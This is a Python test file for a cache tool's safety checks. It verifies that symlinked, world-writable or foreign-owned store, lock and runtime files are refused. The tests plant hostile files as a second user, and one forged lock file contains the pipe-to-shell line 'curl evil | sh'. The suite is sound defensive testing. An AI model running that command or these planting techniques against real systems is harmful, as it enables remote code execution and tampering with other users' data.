"""The store's safety (issue 9, item 5): a store directory, store file, -wal, -shm, counts file,
flights directory, lock file, runtime directory or volatile file that another user owns or can
write, or that is a symbolic link, is refused with exit 3 and one line saying what is wrong and
how to fix it; nothing is followed, nothing is read from it, and the user's data never becomes
readable by the other user. The hostile files are planted by a second user, `nobody`, through
runuser (those cases need root and are skipped otherwise).

Also issue 9, item 10: lock files of `run` leaders that were killed are removed, and creating a
persistent cache makes no runtime file.

Nothing here sleeps: a `run` command that must be running before the test acts says so by
writing to a FIFO, and waits for the test by reading another.
"""
import os
import pwd
import shutil
import signal
import stat
import subprocess
import unittest

from harness import CachemanTestCase

NOBODY = 65534
IS_ROOT = os.geteuid() == 0


def has_nobody():
    try:
        return (IS_ROOT and shutil.which("runuser") is not None
                and pwd.getpwnam("nobody").pw_uid == NOBODY)
    except KeyError:
        return False


class SafetyTestCase(CachemanTestCase):
    def setUp(self):
        super().setUp()
        self.runtime = os.path.join(self.tmp, "runtime")
        self.env["CACHEMAN_RUNTIME_DIR"] = self.runtime
        # nobody may traverse the test's directory (to plant files), not list or change it.
        os.chmod(self.tmp, 0o711)

    def refused(self, *args, says=(), **kwargs):
        """The command exits 3 with one line on stderr, naming each of `says`."""
        r = self.fails(3, *args, **kwargs)
        self.assertIn("refusing ", r.errtext)
        for text in says:
            self.assertIn(text, r.errtext)
        return r

    def make_store(self):
        self.ok("set", "c", "k", "v")
        self.assertEqual(stat.S_IMODE(os.stat(self.dir).st_mode), 0o700)

    def read(self, path):
        with open(path, "rb") as f:
            return f.read()

    def write(self, path, data, mode=0o600):
        with open(path, "wb") as f:
            f.write(data)
        os.chmod(path, mode)

    def secret_file(self):
        """A file only root can read or write, which nothing may follow a link into."""
        path = os.path.join(self.tmp, "secret")
        self.write(path, b"root only\n")
        return path

    def nothing_created(self):
        self.assertEqual(os.listdir(self.dir), [])


# ==========================================================================================
class PermissiveModeTest(SafetyTestCase):
    """Files and directories of the user with modes that let others write them."""

    def test_store_directory_writable_by_others_is_refused_even_sticky(self):
        for mode, says in ((0o777, "writable by group and others (mode 0777)"),
                           (0o1777, "writable by group and others (mode 1777)"),
                           (0o770, "writable by group (mode 0770)"),
                           (0o702, "writable by others (mode 0702)")):
            with self.subTest(mode=oct(mode)):
                os.makedirs(self.dir, exist_ok=True)
                os.chmod(self.dir, mode)
                r = self.refused("set", "c", "k", "v", says=("store directory", says,
                                                             "chmod 700", self.dir))
                self.assertTrue(r.errtext.endswith("(%s)\n" % self.dir), r)
                # Where there is no store, a read reads nothing and creates nothing.
                self.assertEqual(self.cm("get", "c", "k").code, 1)
                self.nothing_created()

    def test_store_directory_readable_by_others_is_the_users_choice(self):
        os.makedirs(self.dir, mode=0o755)
        os.chmod(self.dir, 0o755)
        self.ok("set", "c", "k", "v")
        self.assertEqual(self.get("c", "k"), b"v")

    def test_store_files_writable_by_others_are_refused(self):
        self.make_store()
        self.ok("run", "--", "true")  # the flights directory exists
        for name, what in (("default.sqlite", "store file"),
                           ("default.sqlite-wal", "store -wal file"),
                           ("default.sqlite-shm", "store -shm file")):
            path = os.path.join(self.dir, name)
            with self.subTest(file=name):
                before = self.read(path)
                os.chmod(path, 0o666)
                self.refused("get", "c", "k",
                             says=(what, "writable by group and others (mode 0666)",
                                   "chmod 600", path))
                self.refused("set", "c", "k", "other", says=(what,))
                self.assertEqual(self.read(path), before, "the file was not touched")
                os.chmod(path, 0o600)
                self.assertEqual(self.get("c", "k"), b"v")
        flights = os.path.join(self.dir, "default.flights")
        os.chmod(flights, 0o777)
        r = self.refused("run", "--", "echo", "ran", says=("flights directory", flights))
        self.assertNotIn(b"ran", r.out + r.err)

    def test_an_empty_store_file_writable_by_others_never_receives_a_secret(self):
        os.makedirs(self.dir, mode=0o700)
        self.write(self.store_path(), b"", 0o666)
        self.refused("set", "secrets", "apikey", "s3cr3t", says=("store file", "mode 0666"))
        self.assertEqual(self.read(self.store_path()), b"")
        self.assertEqual(sorted(os.listdir(self.dir)), ["default.sqlite"])

    def test_a_counts_file_writable_by_others_is_not_written_and_stats_refuses_it(self):
        self.make_store()
        counts = os.path.join(self.dir, "default.counts")
        self.write(counts, b"", 0o622)
        self.assertEqual(self.get("c", "k"), b"v", "a lookup never fails for counting")
        self.assertEqual(self.read(counts), b"", "nothing was counted into it")
        self.refused("stats", says=("counts file", "writable by group and others", counts))

    def test_runtime_directory_and_volatile_file_writable_by_others_are_refused(self):
        os.makedirs(self.runtime, mode=0o777)
        os.chmod(self.runtime, 0o777)
        self.refused("create", "--volatile", "v", says=("runtime directory", self.runtime))
        os.chmod(self.runtime, 0o700)
        self.ok("create", "--volatile", "v")
        self.ok("set", "v", "k", "volatile value")
        (name,) = [n for n in os.listdir(self.runtime) if n.endswith(".sqlite")]
        path = os.path.join(self.runtime, name)
        os.chmod(path, 0o666)
        self.refused("get", "v", "k", says=("volatile store file", "mode 0666", path))
        os.chmod(path, 0o600)
        self.assertEqual(self.get("v", "k"), b"volatile value")


# ==========================================================================================
class SymbolicLinkTest(SafetyTestCase):
    """A symbolic link at any path of the store is refused, never followed."""

    def test_store_directory_that_is_a_symbolic_link(self):
        real = os.path.join(self.tmp, "real")
        os.mkdir(real, 0o700)
        os.symlink(real, self.dir)
        self.refused("set", "c", "k", "v", says=("store directory", "symbolic link", self.dir))
        self.assertEqual(os.listdir(real), [])
        # A symbolic link above the store directory is the user's own choice.
        self.ok("--dir", os.path.join(self.dir, "sub"), "set", "c", "k", "v")
        self.assertEqual(self.ok("--dir", os.path.join(real, "sub"), "get", "c", "k").out, b"v")

    def test_store_file_that_is_a_symbolic_link(self):
        other = os.path.join(self.tmp, "other")
        self.ok("--dir", other, "set", "c", "k", "elsewhere")
        os.makedirs(self.dir, mode=0o700)
        os.symlink(os.path.join(other, "default.sqlite"), self.store_path())
        before = self.read(os.path.join(other, "default.sqlite"))
        for command in (["get", "c", "k"], ["set", "c", "k", "v"], ["list"]):
            with self.subTest(command=command):
                self.refused(*command, says=("store file", "symbolic link", self.store_path()))
        self.assertEqual(self.read(os.path.join(other, "default.sqlite")), before)
        # A dangling one is not created through either.
        os.remove(self.store_path())
        os.symlink(os.path.join(self.tmp, "nowhere.sqlite"), self.store_path())
        self.refused("set", "c", "k", "v", says=("symbolic link",))
        self.assertFalse(os.path.exists(os.path.join(self.tmp, "nowhere.sqlite")))

    def test_wal_shm_and_counts_that_are_symbolic_links_are_not_followed(self):
        self.make_store()
        secret = self.secret_file()
        for name, what, command in (("default.sqlite-wal", "store -wal file", ["get", "c", "k"]),
                                    ("default.sqlite-shm", "store -shm file", ["get", "c", "k"]),
                                    ("default.counts", "counts file", ["stats"])):
            path = os.path.join(self.dir, name)
            with self.subTest(file=name):
                if os.path.exists(path):
                    os.remove(path)
                os.symlink(secret, path)
                self.refused(*command, says=(what, "symbolic link", path))
                if name == "default.counts":
                    self.assertEqual(self.get("c", "k"), b"v", "a lookup does not count")
                self.assertEqual(self.read(secret), b"root only\n", "nothing written through it")
                os.remove(path)
        self.assertEqual(self.get("c", "k"), b"v")

    def test_flights_directory_and_lock_file_that_are_symbolic_links(self):
        self.make_store()
        elsewhere = os.path.join(self.tmp, "elsewhere")
        os.mkdir(elsewhere, 0o700)
        flights = os.path.join(self.dir, "default.flights")
        os.symlink(elsewhere, flights)
        r = self.refused("run", "--", "echo", "ran", says=("flights directory", "symbolic link"))
        self.assertEqual(r.out, b"")
        self.assertEqual(os.listdir(elsewhere), [])
        os.remove(flights)
        self.ok("run", "--", "true")  # a real flights directory
        lock = LockFileTest.lock_file_of(self, ["echo", "ran"])
        secret = self.secret_file()
        os.symlink(secret, lock)
        r = self.refused("run", "--", "echo", "ran", says=("lock file", "symbolic link", lock))
        self.assertEqual(r.out, b"")
        self.assertEqual(self.read(secret), b"root only\n")

    def test_runtime_directory_that_is_a_symbolic_link(self):
        real = os.path.join(self.tmp, "real-runtime")
        os.mkdir(real, 0o700)
        os.symlink(real, self.runtime)
        self.refused("create", "--volatile", "v", says=("runtime directory", "symbolic link"))
        self.assertEqual(os.listdir(real), [])


# ==========================================================================================
@unittest.skipUnless(has_nobody(), "needs root and runuser to act as a second user (nobody)")
class HostileUserTest(SafetyTestCase):
    """Files planted by another user, `nobody`, in a directory that was open to it."""

    def as_nobody(self, script):
        subprocess.run(["runuser", "-u", "nobody", "--", "sh", "-c", script], check=True,
                       cwd="/", stdin=subprocess.DEVNULL)

    def opened_to_nobody(self, plant, directory=None):
        """Opens a directory (the store's) to everyone while `plant` runs, then closes it
        again: the files planted meanwhile stay."""
        directory = directory or self.dir
        mode = stat.S_IMODE(os.stat(directory).st_mode)
        os.chmod(directory, 0o777)
        try:
            plant()
        finally:
            os.chmod(directory, mode)

    def owned_by_nobody(self, path):
        self.assertEqual(os.lstat(path).st_uid, NOBODY)

    def test_a_directory_nobody_created_0777_is_refused(self):
        self.opened_to_nobody(lambda: self.as_nobody("mkdir -m 0777 '%s'" % self.dir), self.tmp)
        self.owned_by_nobody(self.dir)
        for command in (["set", "secrets", "apikey", "s3cr3t"], ["run", "--", "echo", "ran"],
                        ["create", "--builder", "true", "c"]):
            with self.subTest(command=command):
                self.refused(*command, says=("store directory", "owned by uid 65534",
                                             "not by you", self.dir))
        self.nothing_created()

    def test_a_store_in_a_directory_of_nobody_is_refused_even_at_mode_0700(self):
        self.make_store()
        os.chown(self.dir, NOBODY, -1)
        for command in (["get", "c", "k"], ["list"], ["set", "c", "k", "w"]):
            with self.subTest(command=command):
                self.refused(*command, says=("store directory", "owned by uid 65534"))
        os.chown(self.dir, 0, -1)
        self.assertEqual(self.get("c", "k"), b"v")

    def test_wal_and_shm_planted_by_nobody_are_refused_and_untouched(self):
        marker = os.path.join(self.tmp, "builder-ran")
        self.ok("create", "--builder", "touch '%s'; echo '{\"key\": \"k\", \"value\": \"b\"}'"
                % marker, "built")
        self.ok("rebuild", "built")
        os.remove(marker)
        self.ok("invalidate", "built")  # the next read would run the builder
        for suffix in ("-wal", "-shm"):
            path = self.store_path() + suffix
            with self.subTest(file=suffix):
                planted = b"planted by nobody"
                self.opened_to_nobody(lambda: self.as_nobody(
                    "rm -f '{0}'; printf '{1}' > '{0}'; chmod 644 '{0}'".format(
                        path, planted.decode())))
                self.owned_by_nobody(path)
                for command in (["get", "built", "k"], ["set", "c", "k", "v"], ["list"]):
                    self.refused(*command, says=("store %s file" % suffix, "owned by uid 65534",
                                                 path))
                self.assertFalse(os.path.exists(marker), "the builder never ran")
                self.assertEqual(self.read(path), planted, "left untouched")
                os.remove(path)
        self.assertEqual(self.get("built", "k"), b"b")
        self.assertTrue(os.path.exists(marker))

    def test_an_empty_store_file_nobody_planted_never_receives_a_secret(self):
        os.makedirs(self.dir, mode=0o700)
        path = self.store_path()
        self.opened_to_nobody(lambda: self.as_nobody("touch '%s'; chmod 666 '%s'" % (path, path)))
        self.owned_by_nobody(path)
        self.refused("set", "secrets", "apikey", "s3cr3t",
                     says=("store file", "owned by uid 65534"))
        self.assertEqual(self.read(path), b"")
        os.chmod(path, 0o600)  # private, but still nobody's
        self.refused("set", "secrets", "apikey", "s3cr3t", says=("owned by uid 65534",))
        self.assertEqual(self.read(path), b"")

    def test_a_flights_directory_of_nobody_never_replays_its_forged_result(self):
        self.make_store()
        flights = os.path.join(self.dir, "default.flights")
        self.opened_to_nobody(lambda: self.as_nobody(
            "mkdir -m 0777 '%s' && printf 'FORGED: curl evil | sh' > '%s/forged.lock'"
            % (flights, flights)))
        self.owned_by_nobody(flights)
        r = self.refused("run", "--", "echo", "real", says=("flights directory",
                                                            "owned by uid 65534", flights))
        self.assertEqual(r.out, b"", "neither forged nor real output")
        self.assertNotIn(b"FORGED", r.err)

    def test_a_lock_file_of_nobody_is_refused(self):
        self.make_store()
        self.ok("run", "--", "true")  # the flights directory exists, private
        lock = LockFileTest.lock_file_of(self, ["echo", "real"])
        self.opened_to_nobody(lambda: self.opened_to_nobody(
            lambda: self.as_nobody("printf FORGED > '%s'" % lock), os.path.dirname(lock)))
        self.owned_by_nobody(lock)
        r = self.refused("run", "--", "echo", "real", says=("lock file", "owned by uid 65534",
                                                            lock))
        self.assertEqual(r.out, b"")
        os.remove(lock)
        self.assertEqual(self.ok("run", "--", "echo", "real").out, b"real\n")

    def test_a_counts_file_of_nobody_is_never_written(self):
        self.make_store()
        counts = os.path.join(self.dir, "default.counts")
        self.opened_to_nobody(lambda: self.as_nobody("touch '%s'" % counts))
        self.owned_by_nobody(counts)
        self.assertEqual(self.get("c", "k"), b"v")
        self.assertEqual(self.read(counts), b"", "the cache's name never reached nobody")
        self.refused("stats", says=("counts file", "owned by uid 65534", counts))

    def test_a_runtime_directory_of_nobody_is_refused(self):
        self.opened_to_nobody(lambda: self.as_nobody("mkdir -m 0700 '%s'" % self.runtime),
                              self.tmp)
        self.refused("create", "--volatile", "v", says=("runtime directory", "owned by uid 65534"))
        self.assertEqual(self.sql("SELECT count(*) FROM caches WHERE volatile"), [(0,)])

    def test_a_volatile_file_of_nobody_is_refused(self):
        self.ok("create", "--volatile", "v")
        (name,) = [n for n in os.listdir(self.runtime) if n.endswith(".sqlite")]
        path = os.path.join(self.runtime, name)
        os.remove(path)
        self.opened_to_nobody(lambda: self.as_nobody("touch '%s'" % path), self.runtime)
        self.refused("set", "v", "k", "s3cr3t", says=("volatile store file", "owned by uid 65534"))
        self.assertEqual(self.read(path), b"")

    def test_nobody_can_read_none_of_the_users_files(self):
        self.ok("set", "secrets", "apikey", "s3cr3t")
        self.ok("create", "--volatile", "v")
        self.ok("set", "v", "apikey", "s3cr3t")
        self.ok("get", "secrets", "apikey")  # a counts file
        self.ok("run", "--", "true")  # a flights directory
        for top in (self.dir, self.runtime):
            for name in [""] + os.listdir(top):
                path = os.path.join(top, name)
                with self.subTest(path=path):
                    r = subprocess.run(["runuser", "-u", "nobody", "--", "cat", path],
                                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd="/")
                    self.assertNotEqual(r.returncode, 0, path)
                    self.assertNotIn(b"s3cr3t", r.stdout)


# ==========================================================================================
class LockFileTest(SafetyTestCase):
    """Issue 9, item 10: lock files of `run`'s single flight do not pile up."""

    def setUp(self):
        super().setUp()
        self.flights = os.path.join(self.dir, "default.flights")

    def lock_files(self):
        try:
            return sorted(n for n in os.listdir(self.flights) if n.endswith(".lock"))
        except FileNotFoundError:
            return []

    def step(self, n):
        """A command that, unless `released` exists, says it started and waits for the test."""
        ready, go = (os.path.join(self.tmp, "%s%d" % (name, n)) for name in ("ready", "go"))
        for fifo in (ready, go):
            if not os.path.exists(fifo):
                os.mkfifo(fifo)
        released = os.path.join(self.tmp, "released")
        script = ("if [ -e '%s' ]; then echo done $1; exit 0; fi; "
                  "echo started > '%s'; cat '%s' > /dev/null; echo finished $1"
                  % (released, ready, go))
        return ["sh", "-c", script, "step", str(n)], ready, go

    def start_leader(self, n):
        cmd, ready, go = self.step(n)
        proc = self.popen("run", "--", *cmd, stdin=subprocess.DEVNULL,
                          stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        with open(ready) as f:  # blocks until the command runs: the leader holds its lock
            self.assertEqual(f.read(), "started\n")
        return proc, go

    @staticmethod
    def release(go):
        with open(go, "w"):  # the command's `cat` reads end of file and the command ends
            pass

    @staticmethod
    def lock_file_of(test, cmd):
        """The lock file of `run -- CMD`: named after the key that `run --explain` prints."""
        r = test.ok("run", "--explain", "--", *cmd)
        (key,) = [line.split()[1] for line in r.text.splitlines() if line.startswith("key ")]
        return os.path.join(test.dir, "default.flights", key + ".lock")

    def test_a_normal_run_leaves_no_lock_file(self):
        self.assertEqual(self.ok("run", "--", "echo", "hi").out, b"hi\n")
        self.assertTrue(os.path.isdir(self.flights))
        self.assertEqual(self.lock_files(), [])
        proc, go = self.start_leader(1)
        self.assertEqual(self.lock_files(),
                         [os.path.basename(self.lock_file_of(self, self.step(1)[0]))],
                         "a live flight has its lock file, named after its key")
        self.release(go)
        out, err = proc.communicate(timeout=60)
        self.assertEqual((proc.returncode, out), (0, b"finished 1\n"), err)
        self.assertEqual(self.lock_files(), [])

    def kill_leaders(self, count):
        for n in range(count):
            proc, go = self.start_leader(n)
            proc.send_signal(signal.SIGKILL)
            proc.communicate(timeout=60)
            self.release(go)  # the command (in a session of its own) ends too
        self.assertEqual(len(self.lock_files()), count, "each killed leader left its lock file")

    def test_the_next_run_of_a_killed_leaders_key_reuses_and_removes_its_lock_file(self):
        self.kill_leaders(1)
        open(os.path.join(self.tmp, "released"), "w").close()
        cmd, _, _ = self.step(0)
        self.assertEqual(self.ok("run", "--", *cmd).out, b"done 0\n")
        self.assertEqual(self.lock_files(), [])

    def test_any_leader_that_ends_sweeps_the_lock_files_of_killed_ones(self):
        self.kill_leaders(3)
        self.assertEqual(self.ok("run", "--", "echo", "other").out, b"other\n")
        self.assertEqual(self.lock_files(), [])

    def test_the_sweep_leaves_a_live_flight_alone(self):
        self.ok("run", "--", "true")  # the results cache exists before the leader starts
        proc, go = self.start_leader(7)
        (live,) = self.lock_files()
        self.assertEqual(self.ok("run", "--", "echo", "other").out, b"other\n")
        self.assertEqual(self.lock_files(), [live], "the live leader's lock file stays")
        # A follower of the live flight waits for it and replays its result (or, started after
        # it ended, replays the stored result).
        cmd, _, _ = self.step(7)
        follower = self.popen("run", "--", *cmd, stdin=subprocess.DEVNULL,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        self.release(go)
        out, err = proc.communicate(timeout=60)
        self.assertEqual((proc.returncode, out), (0, b"finished 7\n"), err)
        fout, ferr = follower.communicate(timeout=60)
        self.assertEqual((follower.returncode, fout), (0, b"finished 7\n"), ferr)
        self.assertEqual(self.lock_files(), [])


# ==========================================================================================
class RuntimeFileTest(SafetyTestCase):
    """Issue 9, item 10: only volatile caches touch the runtime directory."""

    def runtime_files(self):
        try:
            return os.listdir(self.runtime)
        except FileNotFoundError:
            return []

    def test_a_persistent_cache_makes_no_runtime_file(self):
        self.ok("create", "p")
        self.ok("create", "--builder", "true", "--ttl", "1h", "p")
        self.ok("set", "p", "k", "v")
        self.ok("list")
        self.ok("invalidate", "p")
        self.ok("create", "--no-volatile", "q")
        self.assertEqual(self.runtime_files(), [])

    def test_a_volatile_cache_makes_one(self):
        self.ok("create", "p")
        self.ok("create", "--volatile", "v")
        files = [n for n in self.runtime_files() if n.endswith(".sqlite")]
        self.assertEqual(len(files), 1, self.runtime_files())
        self.assertEqual(stat.S_IMODE(os.stat(self.runtime).st_mode), 0o700)
        self.ok("set", "v", "k", "kept")
        self.ok("create", "--no-volatile", "v")  # moved back to the store file
        self.assertEqual(self.get("v", "k"), b"kept")


if __name__ == "__main__":
    unittest.main()
